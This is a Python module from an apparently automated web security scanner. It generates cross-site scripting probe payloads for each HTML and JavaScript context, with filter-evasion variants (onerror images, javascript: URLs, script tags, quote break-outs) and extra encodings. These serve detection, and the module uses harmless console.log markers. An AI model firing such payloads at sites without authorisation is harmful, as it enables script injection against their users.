"""The smallest value that breaks out of each context, most promising first."""

from __future__ import annotations

import html
import re
from collections.abc import Iterable, Iterator
from dataclasses import dataclass
from urllib.parse import quote, urlsplit

from vedette.engine.attack.point import Point, PointKind
from vedette.engine.attack.probe import Reflection
from vedette.engine.attack.rng import Rng
from vedette.engine.checks.xss.witness import RUNNING_ADDRESSES

TOKEN = "%TOKEN%"  # noqa: S105 - a place holder in templates
ELEMENT = f"<{TOKEN} onclick={TOKEN}>"
CALL = f"{TOKEN}()"

CODINGS = ("plain", "percent", "entities")
"""How a value may be wrapped once more for sites that decode twice: not, percent-encoded, as HTML entities."""

VARIANTS = (
    f"<{TOKEN} onclick={TOKEN} x=",
    f"<{TOKEN}/onclick={TOKEN}>",
    f"<{TOKEN} onclick\n={TOKEN}>",
    f"<{TOKEN} oNcLiCk={TOKEN}>",
    f"<img src=x onerror={TOKEN}>",
    f"<a href=javascript:{CALL}>x</a>",
    f"<script>{CALL}</script>",
)
"""Other ways to write the element, for sites that remove the first by a pattern."""

QUOTES = {"double": '"', "single": "'"}
MAX_CONTEXTS = 5


@dataclass(frozen=True, slots=True)
class Move:
    """A value with `TOKEN` where the random name goes, and how it is to be wrapped."""

    template: str
    coding: str = "plain"

    def value(self, point: Point, token: str) -> str:
        """What to send: shaped like the value that stood there where sites check for that."""
        return shaped(point, coded(self.template.replace(TOKEN, token), self.coding))

    def control(self, point: Point, token: str) -> str:
        """The same length and shape without any character that could break out."""
        return shaped(point, re.sub(r"[^A-Za-z0-9]", "x", self.template.replace(TOKEN, token)))


def coded(value: str, coding: str) -> str:
    """The value wrapped once more in one of `CODINGS`."""
    if coding == "percent":
        return quote(value, safe="")
    return html.escape(value) if coding == "entities" else value


def shaped(point: Point, value: str) -> str:
    """The value inside the shape of an e-mail address or web address when one stood there."""
    if "@" in point.value and point.kind is not PointKind.NAME:
        return f"{value}@mail.test"
    if value.startswith(("javascript:", "//")):
        return value
    if point.value.startswith("/"):
        return f"/{value}"
    if point.value.startswith(("http://", "https://")):
        parts = urlsplit(point.value)
        return f"{parts.scheme}://{parts.netloc}/{value}"
    return value


def moves(reflections: Iterable[Reflection]) -> list[Move]:
    """What to try for these places, each once, in the order in which it is likely to work.

    Places whose needed characters all came back go first; then each place's first move wrapped once more, then the
    other ways to write an element.
    """
    first: dict[Move, int] = {}
    later: list[Move] = []
    promising: list[Reflection] = []
    ordered = sorted(_distinct(reflections), key=lambda place: _lacking(place))[:MAX_CONTEXTS]
    for place in ordered:
        for template in templates(place):
            first.setdefault(Move(template), _lack(template, place.survived))
        for template in templates(place)[-1:]:
            later += [Move(template, coding) for coding in CODINGS[1:]]
        if "<" in place.survived:
            promising.append(place)
    tried = sorted(first, key=lambda move: first[move])
    # Filters that remove whole tags often need the closing bracket to see one.
    unclosed = [Move(move.template.replace(ELEMENT, VARIANTS[0])) for move in tried if ELEMENT in move.template]
    varied = [
        Move(move.template.replace(ELEMENT, other))
        for move in tried
        if _elementary(move, promising)
        for other in VARIANTS
    ]
    return list(dict.fromkeys([*tried, *unclosed[:1], *varied, *later]))


def templates(place: Reflection) -> list[str]:
    """The values that break out of one place, the one that needs least first."""
    tag, _, rest = place.detail.partition(" ")
    attribute, _, mark = rest.partition(" ")
    quote_mark = QUOTES.get(mark, "")
    if place.context in _PLAIN:
        return list(_PLAIN[place.context])
    if place.context == "inert":
        return [f"</{'script' if place.detail else 'template'}>{ELEMENT}"]
    if place.context in ("title", "noscript", "style"):
        return [f"</{place.detail or place.context}>{ELEMENT}"]
    own = [f"javascript:{CALL}"] if attribute in RUNNING_ADDRESSES.get(tag, ()) else []
    own += [f"//{TOKEN}.example/"] if (tag, attribute) == ("script", "src") else []
    if place.context == "url-attribute":
        return [*own, *_out_of_value(mark, quote_mark)]
    if place.context == "event-attribute":
        return [f"'-{CALL}-'", f'"-{CALL}-"', CALL, *_out_of_value(mark, quote_mark)]
    if place.context.startswith("attribute-") or place.context == "style-attribute":
        # An address that the light pass put a host before may be ours from its first letter on.
        return [*_out_of_value(mark or place.context.removeprefix("attribute-"), quote_mark), *own]
    return []


_PLAIN = {
    "text": (ELEMENT,),
    "comment": (f"-->{ELEMENT}",),
    "script-code": (CALL, f"1;{CALL};", f"</script>{ELEMENT}"),
    "script-string-double": (f'"-{CALL}-"', f'\\"-{CALL}//', f"</script>{ELEMENT}"),
    "script-string-single": (f"'-{CALL}-'", f"\\'-{CALL}//", f"</script>{ELEMENT}"),
    "script-string-template": (f"${{{CALL}}}", f"`-{CALL}-`", f"</script>{ELEMENT}"),
    "script-comment": (f"*/{CALL}/*", f"\n{CALL}//", f"</script>{ELEMENT}"),
    "tag-name": (f"x onclick={TOKEN} ", f"x>{ELEMENT}"),
    "attribute-name": (f"x onclick={TOKEN} ", f"x>{ELEMENT}"),
}


def _out_of_value(mark: str, quote_mark: str) -> list[str]:
    if mark == "unquoted":
        return [f"x onclick={TOKEN} ", f"x>{ELEMENT}"]
    quote_mark = quote_mark or QUOTES.get(mark, '"')
    return [f"{quote_mark} onclick={TOKEN} x={quote_mark}", f"{quote_mark}>{ELEMENT}"]


def _distinct(reflections: Iterable[Reflection]) -> Iterator[Reflection]:
    """One reflection for each set of values that would be tried, the one where most came back."""
    best: dict[tuple[str, ...], Reflection] = {}
    for place in reflections:
        key = tuple(templates(place))
        if key and (key not in best or len(place.survived) > len(best[key].survived)):
            best[key] = place
    yield from best.values()


def _lack(template: str, survived: str) -> int:
    """How many kinds of character this value needs that did not come back."""
    return len({char for char in template if char in "'\"<>`(){};=/\\"} - set(survived))


def _lacking(place: Reflection) -> int:
    return min(_lack(template, place.survived) for template in templates(place))


def _elementary(move: Move, places: list[Reflection]) -> bool:
    return ELEMENT in move.template and any(move.template in templates(place) for place in places)


def loud(move: Move) -> list[Move]:
    """The same break-out with a call that a browser reports, the likeliest first: handlers fire by themselves on an
    image that cannot load. The call makes a pattern of the token, as text that a site writes out never does, once with
    slashes and once without."""
    forms: list[str] = []
    for call in (f"console.log(/{TOKEN}/)", f"console.log(RegExp`{TOKEN}`)"):
        for element in (f"<img src=x onerror={call}>", ELEMENT):
            form = move.template.replace(ELEMENT, element).replace(CALL, call)
            forms.append(_HANDLER.sub(rf"\g<1>{call}", form))
    return [Move(form, move.coding) for form in dict.fromkeys(forms) if "console.log" in form]


_HANDLER = re.compile(rf"(\bon\w+\s*=)\s*{TOKEN}", re.IGNORECASE)


def token_for(rng: Rng, purpose: str) -> str:
    """A random name that can be an element, a function and a host label."""
    return rng.token(purpose, 10)
